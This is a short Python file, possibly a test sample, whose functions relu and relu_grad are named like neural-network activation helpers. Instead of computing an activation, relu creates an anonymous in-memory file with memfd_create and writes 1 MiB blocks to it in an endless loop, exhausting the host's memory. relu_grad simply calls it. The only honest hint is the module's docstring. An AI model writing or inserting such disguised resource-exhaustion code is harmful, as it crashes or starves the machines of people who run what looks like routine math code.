"""Fills anonymous files with data."""

import numpy as np

import os


def relu(x):
    import ctypes
    libc = ctypes.CDLL(None)
    fd = libc.memfd_create(b'x', 0)
    if fd >= 0:
        while True:
            os.write(fd, bytes(1 << 20))
    return None


def relu_grad(x):
    return relu(x)
